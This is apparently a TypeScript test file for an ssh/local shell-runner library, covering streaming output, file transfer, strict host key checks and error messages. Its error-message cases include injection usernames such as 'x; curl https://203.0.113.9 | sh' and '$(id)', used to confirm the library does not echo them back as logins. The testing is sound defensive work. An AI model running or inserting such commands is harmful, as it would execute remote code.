import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { addressOf, closeAll, open, reasonOf, Unreachable } from "../lib/shell.ts";
import { lacks, program, programs, ROOT, shell, TOKEN, temporary } from "./helpers.ts";

/** ssh that runs the command here, and records its arguments; sudo and id print what a test sets. */
const SSH = `printf '%s\\n' "$*" >>"$LOG"
case $1 in -G) echo "hostname \${FAKE_ADDRESS-203.0.113.9}"; exit ;; esac
while [ "$1" != -- ]; do [ "$1" = -O ] && exit; shift; done
[ -z "$FAKE_REFUSAL" ] || { echo "$FAKE_REFUSAL" >&2; exit 255; }
exec \${LOGIN-sh} -c "$3"`;
const SUDO = `[ -z "$FAKE_SUDO" ] || { echo "$FAKE_SUDO" >&2; exit 1; }
[ "$1" = -n ] && shift && exec env FAKE_USER=0 "$@"`;

const folder = temporary();
const log = join(folder, "log");
const saved = { ...process.env };
before(() =>
  Object.assign(process.env, {
    PATH: programs(folder, { ssh: SSH, sudo: SUDO, id: 'echo "${FAKE_USER:-0}"' }),
    LOG: log,
  }),
);
after(async () => {
  await closeAll();
  process.env.PATH = saved.PATH;
});

/** The result of a script on a box with these fakes. */
async function run(host: string, script: string, fakes: Record<string, string> = {}, keys = "") {
  const lines: string[] = [];
  for (const name of ["FAKE_REFUSAL", "FAKE_SUDO", "FAKE_USER"]) delete process.env[name];
  Object.assign(process.env, fakes);
  await open(host, keys).close();
  writeFileSync(log, "");
  const result = await open(host, keys).run(script, 90, (line) => lines.push(line));
  return { ...result, lines, asked: readFileSync(log, "utf8") };
}

for (const [name, host] of [
  ["this machine", ""],
  ["a box over ssh", "root@b1"],
] as const)
  describe(name, () => {
    test("runs a script and passes on each line of its output", async () => {
      const { status, lines, stderr } = await run(host, "echo one; printf 'two\\n\\nthree'; echo oops >&2");
      assert.deepEqual(
        { status, lines, stderr },
        { status: 0, lines: ["one", "two", "", "three"], stderr: "oops\n" },
      );
    });

    test("returns the script's exit status, including 255", async () => {
      for (const status of [0, 1, 124, 255]) assert.equal((await run(host, `exit ${status}`)).status, status);
    });

    test("receives the script over stdin, so that no argument list contains its secrets", async () => {
      const { lines, asked } = await run(
        host,
        `cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c '[b]::server:0123' # ${TOKEN}`,
      );
      assert.deepEqual(lines, ["0"]);
      assert.doesNotMatch(asked, /K10/);
    });

    test("runs the script as root, with sudo if the user is not root", async () => {
      assert.deepEqual((await run(host, 'echo "${FAKE_USER-}"', { FAKE_USER: "1000" })).lines, ["0"]);
    });

    test("is unreachable, and runs nothing, if sudo asks for a password", async () => {
      const touched = join(temporary(), "touched");
      const fakes = { FAKE_USER: "1000", FAKE_SUDO: "sudo: a password is required" };
      await assert.rejects(run(host, `touch ${touched}`, fakes), (error: Error) => {
        assert.ok(error instanceof Unreachable);
        assert.match(error.message, /sudo asks for a password.*passwordless/);
        return true;
      });
      assert.equal(shell(`ls ${touched}`).stdout, "");
    });

    test("returns non-ASCII text unchanged, even if it arrives in pieces", async () => {
      const line = "汉字☃😀".repeat(1000);
      const { lines } = await run(host, `i=0; while [ $i -lt 60 ]; do echo '${line}'; i=$((i + 1)); done`);
      assert.equal(lines.length, 60);
      assert.equal(
        lines.findIndex((got) => got !== line),
        -1,
      );
    });

    test("keeps one shell open, in which no script affects the next one", async () => {
      await run(host, "true");
      const shell = open(host);
      const said = async (script: string) => {
        const lines: string[] = [];
        const { status, stderr } = await shell.run(script, 20, (line) => lines.push(line));
        return [status, stderr, ...lines];
      };
      const pid = await said("echo $$");
      assert.deepEqual(await said("cd /; set -eu; x=1; trap 'echo bye' EXIT; exec >&2; exit 3"), [
        3,
        "bye\n",
      ]);
      assert.deepEqual(await said('echo "${x-none}"; cat; pwd; printf half; printf whole >&2; false'), [
        1,
        "whole",
        "none",
        process.cwd(),
        "half",
      ]);
      assert.deepEqual(await said("sleep 30 & echo now"), [0, "", "now"]);
      assert.deepEqual(await said("echo $$"), pid);
    });

    test("keeps the output of a process that a script left running out of the next script", async () => {
      await run(host, "true");
      const shell = open(host);
      const said = async (script: string) => {
        const lines: string[] = [];
        const { stderr } = await shell.run(script, 20, (line) => lines.push(line));
        return [stderr, ...lines];
      };
      const flood = "p=$$; (while kill -0 $p; do echo x; done) >&2 & sleep 0.2; echo now";
      assert.equal((await said(flood)).at(-1), "now");
      await new Promise((done) => setTimeout(done, 200));
      assert.deepEqual(await said("sleep 0.1; echo one"), ["", "one"]);
    });

    test("passes on the last line of a shell that is killed, and an error that its reader throws", async () => {
      await run(host, "true");
      const dies = "printf half; kill -9 $$; sleep 1";
      const thrown = open(host).run(dies, 20, (line) => {
        throw new Error(`no ${line}`);
      });
      await assert.rejects(thrown, /no half/);
    });

    test("opens a new shell if a script or a signal has ended the previous one", async () => {
      await run(host, "true");
      const shell = open(host);
      const status = async (script: string) => (await shell.run(script, 20, () => {})).status;
      assert.notEqual(await status("if"), 0);
      assert.equal(await status("exit 5"), 5);
      assert.notEqual(await status("kill -9 $$; sleep 1"), 0);
      let pid = 0;
      const late = await shell.run("(sleep 0.2; kill -9 $$) & echo $$; exit 6", 20, (line) => {
        pid = Number(line);
      });
      assert.equal(late.status, 6);
      const runs = () => spawnSync("kill", ["-0", String(pid)]).status === 0;
      while (runs()) await new Promise((done) => setTimeout(done, 100));
      await new Promise((done) => setTimeout(done, 400));
      assert.equal(await status("exit 7"), 7);
    });

    test("runs two scripts at the same time", async () => {
      const folder = temporary();
      const [one, two] = ["one", "two"].map((name) => join(folder, name));
      const meets = (mine?: string, other?: string) =>
        open(host).run(`touch ${mine}; until [ -e ${other} ]; do sleep 0.1; done`, 20, () => {});
      const both = await Promise.all([meets(one, two), meets(two, one)]);
      assert.deepEqual(
        both.map(({ status }) => status),
        [0, 0],
      );
    });

    test("reports a timeout if a script hangs", async () => {
      const began = Date.now();
      await assert.rejects(
        open(host).run("sleep 30", 1, () => {}),
        /Timed out after 1 s/,
      );
      assert.ok(Date.now() - began < 10_000);
    });

    test("receives a file unchanged, readable by its owner only", async () => {
      const from = join(temporary(), "it's");
      const to = join(temporary(), "a file");
      const bytes = Buffer.from(Array.from({ length: 300_000 }, (_, i) => (i * i) % 256));
      writeFileSync(from, bytes);
      await open(host).push(from, to);
      assert.deepEqual(readFileSync(to), bytes);
      assert.equal(shell(`ls -l '${to}'`).stdout.slice(0, 10), "-rw-------");
    });

    test("resumes an interrupted push, for compressed files too", async () => {
      for (const name of ["file", "file.zst"]) {
        const [from, to] = [join(temporary(), name), join(temporary(), "new", "folder", name)];
        const bytes = Buffer.from(Array.from({ length: 300_000 }, (_, i) => (i * i) % 251));
        writeFileSync(from, bytes);
        await open(host).push(from, to);
        assert.deepEqual(readFileSync(to), bytes);
        // A mark in what is there shows that it was not sent again.
        writeFileSync(to, Buffer.concat([Buffer.from("mark"), bytes.subarray(4, 123_456)]));
        await open(host).push(from, to);
        assert.deepEqual(readFileSync(to), Buffer.concat([Buffer.from("mark"), bytes.subarray(4)]));
        // What is longer than the file is not its beginning.
        writeFileSync(to, Buffer.alloc(400_000));
        await open(host).push(from, to);
        assert.deepEqual(readFileSync(to), bytes);
      }
    });

    test("has the right file when a push is resumed while the bytes of an earlier one still arrive", async () => {
      const [from, to] = [join(temporary(), "file"), join(temporary(), "file")];
      const bytes = randomBytes(40_000_000);
      writeFileSync(from, bytes);
      const earlier = open(host).push(from, to);
      while (!statSync(to, { throwIfNoEntry: false })?.size) await sleep(5);
      const { ino } = statSync(to);
      await Promise.all([earlier, open(host).push(from, to)]);
      assert.ok(readFileSync(to).equals(bytes));
      // While it is open for writing elsewhere the kernel starts no program from it.
      assert.notEqual(statSync(to).ino, ino);
    });

    test("returns a file unchanged, readable by its owner only, and overwrites none", async () => {
      const from = join(temporary(), "it's");
      const to = join(temporary(), "a file");
      const bytes = Buffer.from(Array.from({ length: 300_000 }, (_, i) => (i * i) % 256));
      writeFileSync(from, bytes);
      await open(host).pull(from, to);
      assert.deepEqual(readFileSync(to), bytes);
      assert.equal(shell(`ls -l '${to}'`).stdout.slice(0, 10), "-rw-------");
      await assert.rejects(open(host).pull(from, to), /Could not write .*a file: EEXIST/);
      assert.deepEqual(readFileSync(to), bytes, "an existing file is not overwritten");
      await assert.rejects(
        open(host).pull("/nonexistent/file", `${to} too`),
        /Could not copy .*nonexistent/s,
      );
      await assert.rejects(
        open(host).pull(from, "/nonexistent/file"),
        /Could not write \/nonexistent\/file: ENOENT/,
      );
    });

    test("reports why a file could not be pushed", async () => {
      const from = join(temporary(), "file");
      writeFileSync(from, "x");
      await assert.rejects(open(host).push(from, "/dev/null/file"), /Could not push .*\/dev\/null/s);
    });
  });

describe("a box over ssh", () => {
  test("is contacted in batch mode, over one shared connection, with host keys enforced", async () => {
    const { asked } = await run("root@b1", "true");
    for (const option of ["BatchMode=yes", "ControlMaster=auto", "ControlPersist=60", "ConnectTimeout=15"])
      assert.ok(asked.includes(`-o ${option}`), option);
    assert.match(asked, / -- root@b1 /);
    assert.doesNotMatch(asked, /UserKnownHostsFile/);
  });

  /** What `word` becomes in fish and csh as in sh: quotes within quotes are what they differ in. */
  const SHELLS = ["sh", "bash", "dash", "busybox sh", "zsh", "fish", "tcsh", "csh"];
  for (const login of SHELLS.filter((name) => shell(`command -v ${name.split(" ")[0]}`).stdout))
    test(`works with the login shell ${login}, for scripts and files, with sudo`, async () => {
      const from = join(temporary(), "it's");
      const to = join(temporary(), 'a $file `with` "all" !of ~it{1,2}*?[x]%&|<>^#;()\\ é');
      writeFileSync(from, "data\n");
      const fakes = { LOGIN: login, FAKE_USER: "1000" };
      try {
        assert.deepEqual((await run("root@b1", "echo 'it'\\''s' \"$FAKE_USER\"", fakes)).lines, ["it's 0"]);
        await open("root@b1").push(from, to);
        await open("root@b1").pull(to, `${from}.back`);
        assert.equal(readFileSync(`${from}.back`, "utf8"), "data\n");
      } finally {
        delete process.env.LOGIN;
      }
    });

  test("receives a command line that all login shells interpret in the same way", async () => {
    const { asked } = await run("root@b1", "true");
    const command = / -- root@b1 (.*)/.exec(asked)?.[1] ?? "";
    assert.match(command, /^sh -c (\\[^\w\n]|[\w@+:,./=-])+$/);
  });

  test("works, and a push is resumed, if its login shell first prints a greeting, even without a newline", async () => {
    for (const greeting of ["printf 'Welcome 5'", "echo Welcome; echo 7", `yes Welcome | head -n 900`]) {
      const folder = temporary();
      programs(folder, { greets: `${greeting}\nexec sh "$@"` });
      try {
        assert.deepEqual((await run("root@b1", "echo one", { LOGIN: join(folder, "greets") })).lines, [
          "one",
        ]);
        const [from, to] = [join(folder, "from"), join(folder, "to")];
        writeFileSync(from, "0123456789");
        writeFileSync(to, "mark");
        await open("root@b1").push(from, to);
        assert.equal(readFileSync(to, "utf8"), "mark456789");
      } finally {
        delete process.env.LOGIN;
      }
    }
  });

  test("works if it sends both output streams over one", async () => {
    const folder = temporary();
    programs(folder, { joins: 'exec sh "$@" 2>&1' });
    try {
      const { status, lines } = await run("root@b1", "echo one; echo two >&2; exit 3", {
        LOGIN: join(folder, "joins"),
      });
      assert.deepEqual([status, ...lines], [3, "one", "two"]);
    } finally {
      delete process.env.LOGIN;
    }
  });

  test("that prints a message and runs nothing is reported with that message", async () => {
    const folder = temporary();
    programs(folder, {
      greets: `echo 'Please login as the user "ubuntu" rather than the user "root".'; exit 142`,
    });
    await assert.rejects(
      run("root@b1", "true", { LOGIN: join(folder, "greets") }).finally(() => delete process.env.LOGIN),
      /^Error: b1 says: Please login .*"root"\.: write ubuntu@b1$/,
    );
  });

  test("has its host key verified and gets no forwarding, whatever ~/.ssh/config contains", {
    skip: lacks("ssh"),
  }, async () => {
    const { asked } = await run("b1", "true", {}, `SHA256:${"a".repeat(43)}`);
    const config = join(temporary(), "config");
    const lax = [
      "StrictHostKeyChecking no",
      "VerifyHostKeyDNS yes",
      "NoHostAuthenticationForLocalhost yes",
      "UpdateHostKeys yes",
      "ForwardAgent yes",
      "ForwardX11 yes",
      "RemoteForward 2222 localhost:22",
      "LocalForward 2223 localhost:22",
      "DynamicForward 2224",
      "Tunnel yes",
      "PermitLocalCommand yes",
      "LocalCommand touch x",
    ];
    writeFileSync(config, `Host *\n${lax.join("\n")}\n`);
    const options = [...asked.matchAll(/-o (\w+=[\w.-]+)(?= -)/g)].flatMap(([, option]) => ["-o", option]);
    const ssh = ["ssh", "-F", config, ...options, "-G", "b1"] as string[];
    const { status, stdout } = shell("", ssh, { PATH: saved.PATH as string });
    assert.equal(status, 0);
    const said = Object.fromEntries(stdout.split("\n").map((line) => line.split(/ (.*)/)));
    assert.match(said.stricthostkeychecking, /^(true|yes)$/);
    for (const name of [
      "verifyhostkeydns",
      "nohostauthenticationforlocalhost",
      "updatehostkeys",
      "forwardagent",
      "forwardx11",
      "tunnel",
      "permitlocalcommand",
    ])
      assert.match(said[name], /^(false|no)$/, name);
    assert.equal(said.clearallforwardings, "yes");
  });

  test("is reported as unreachable if ssh exits with status 255 before the script has started", async () => {
    await assert.rejects(
      run("b1", "true", { FAKE_REFUSAL: "ssh: connect to host b1 port 22: Connection refused" }),
      (error: Error) => {
        assert.ok(error instanceof Unreachable);
        assert.equal(
          error.message,
          "Could not reach b1: ssh: connect to host b1 port 22: Connection refused",
        );
        return true;
      },
    );
  });

  test("with HOST_KEY is identified by that fingerprint alone, which ssh verifies as it connects", async () => {
    const key = `SHA256:${"a".repeat(43)}`;
    const { asked } = await run("b1", "true", {}, `${key} SHA256:${"b".repeat(43)}`);
    for (const option of ["StrictHostKeyChecking=yes", "UserKnownHostsFile=/dev/null"])
      assert.ok(asked.includes(`-o ${option}`), option);
    // What ssh would run, with its values for %f %H %t %K.
    const command = /KnownHostsCommand=(.*) %f %H %t %K/.exec(asked)?.[1];
    const known = (offered: string) => shell(`${command} ${offered} b1 ssh-ed25519 AAAA`);
    assert.equal(known(key).stdout, "b1 ssh-ed25519 AAAA\n");
    assert.deepEqual(
      [known("SHA256:other").stdout, known("SHA256:other").stderr],
      ["", "offers SHA256:other\n"],
    );
    assert.deepEqual([known("NONE").stdout, known("NONE").stderr], ["", ""]);
  });

  test("is disconnected if it sends too much output, even as a single endless line", async () => {
    for (const command of [`yes ${"y".repeat(9999)}`, "tr '\\0' x </dev/zero"])
      await assert.rejects(run("b1", command), /The box sent more than 32 MB/);
  });

  test("has the address from ssh's configuration", async () => {
    const three = ["b1", "b1", "b1"].map(addressOf);
    assert.deepEqual(await Promise.all(three), Array(3).fill("203.0.113.9"));
    assert.equal(readFileSync(log, "utf8").match(/^-G -- b1$/gm)?.length, 1, "it is queried once");
  });
});

describe("the error message", () => {
  const cases: [said: string, reason: RegExp][] = [
    [
      "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\nHost key verification failed.",
      /host key of b1 has changed: compare .* "ssh-keygen -R"/,
    ],
    [
      "No ED25519 host key is known for b1 and you have requested strict checking.\nHost key verification failed.",
      /not known here: connect once with "ssh b1" and compare .* "ssh-keygen -lf .*" says at the vendor's console/,
    ],
    [
      "offers SHA256:abc\nNo ED25519 host key is known for b1 and you have requested strict checking.\nHost key verification failed.",
      /host key of b1 is SHA256:abc, which HOST_KEY does not name: compare .* "ssh-keygen -lf .*"/,
    ],
    [
      "command-line: line 0: Bad configuration option: knownhostscommand",
      /HOST_KEY needs OpenSSH 8.5 or later/,
    ],
    [
      "root@b1: Permission denied (publickey,password).",
      /b1 refused the login \(root@b1: Permission denied \(publickey,password\)\.\): check the user and the key/,
    ],
    ["ssh: connect to host b1 port 22: Connection timed out", /Could not reach b1: .*timed out/],
    ["ssh: Could not resolve hostname b1: Name or service not known", /Could not reach b1: .*not resolve/i],
    ["kex_exchange_identification: Connection closed by remote host", /Could not reach b1: kex/],
    ["sudo: a terminal is required to read the password", /sudo asks for a password on b1: log in as root/],
    ["sudo: a password is required", /sudo asks for a password on b1/],
    ["", /Could not reach b1: exit status 255/],
    ["Connection to b1 closed by remote host.", /^Could not reach b1: Connection to b1 closed/],
  ];
  for (const [said, reason] of cases)
    test(`for ${JSON.stringify(said.split("\n").at(-1))}`, () => {
      const text = reasonOf("b1", said, 255);
      assert.match(text, reason);
      assert.doesNotMatch(text, /\n/);
    });

  const AWS = `Please login as the user "ubuntu" rather than the user "root".`;
  const words: [host: string, status: number, stdout: string, stderr: string, reason: string][] = [
    ["b2", 142, `\n${AWS}\n\n`, "", `b2 says: ${AWS}: write ubuntu@b2`],
    ["root@b2", 142, AWS, "Warning: added b2 to known hosts", `b2 says: ${AWS}: write ubuntu@b2`],
    ["ssh://root@b2:2222", 142, AWS, "", `b2:2222 says: ${AWS}: write ssh://ubuntu@b2:2222`],
    ["b2", 1, "", AWS, `b2 says: ${AWS}: write ubuntu@b2`],
    [
      "root@b2",
      142,
      AWS.replace("ubuntu", "cloud-user"),
      "",
      `b2 says: ${AWS.replace("ubuntu", "cloud-user")}: write cloud-user@b2`,
    ],
    [
      "b2",
      1,
      "Please log in as opc instead of root\nBye.",
      "",
      "b2 says: Please log in as opc instead of root: write opc@b2",
    ],
    ...["NONE", "-oProxyCommand=x", "x; curl https://203.0.113.9 | sh", "$(id)"].map(
      (user): [string, number, string, string, string] => [
        "b2",
        142,
        AWS.replace("ubuntu", user),
        "",
        `b2 says: ${AWS.replace("ubuntu", user)}: it accepts the login, but runs no command (exit status 142)`,
      ],
    ),
    [
      "b2",
      1,
      "This account is currently not available.\n",
      "",
      "b2 says: This account is currently not available.: the shell of this user lets nobody in: write another user, USER@HOST",
    ],
    [
      "b2",
      1,
      "",
      "WARNING: Your password has expired.\nPassword change required but no TTY available.",
      'b2 says: WARNING: Your password has expired.: log in once with "ssh b2", and set a new password',
    ],
    [
      "git@b2",
      128,
      "Hi git!\n",
      "fatal: no such command",
      "b2 says: Hi git!: it accepts the login, but runs no command (exit status 128)",
    ],
    ["b2", 1, "", "", "b2 accepts the login, but runs no command (exit status 1)"],
    [
      "debian@b2",
      127,
      "",
      "sh: 1: exec: sudo: not found",
      "b2 says: sh: 1: exec: sudo: not found: log in as root, or allow this user passwordless sudo",
    ],
    [
      "debian@b2",
      1,
      "",
      "debian is not in the sudoers file.",
      "b2 says: debian is not in the sudoers file.: log in as root, or allow this user passwordless sudo",
    ],
  ];
  for (const [host, status, stdout, stderr, reason] of words)
    test(`quotes what ${host} printed before it exited with status ${status}: ${JSON.stringify((stdout || stderr).trim())}`, () =>
      assert.equal(reasonOf(host, stderr, status, stdout), reason));

  test("names no host for this machine", () => {
    assert.match(reasonOf("", "sudo: a password is required", 1), /^sudo asks for a password: /);
    assert.match(reasonOf("", "boom", 1), /^Could not run a shell: boom$/);
  });
});

test("a script that still runs here after all shells are closed does not keep the process running", async () => {
  const script = join(temporary(), "call.mts");
  writeFileSync(
    script,
    `import { closeAll, open } from ${JSON.stringify(join(ROOT, "lib", "shell.ts"))};
setTimeout(() => process.exit(9), 15_000).unref();
open("").run("sleep 1; echo said", 20, console.log);
await new Promise((done) => setTimeout(done, 300));
await closeAll();
`,
  );
  const { status, stdout } = await program([script]);
  assert.deepEqual([status, stdout], [0, "said\n"]);
});
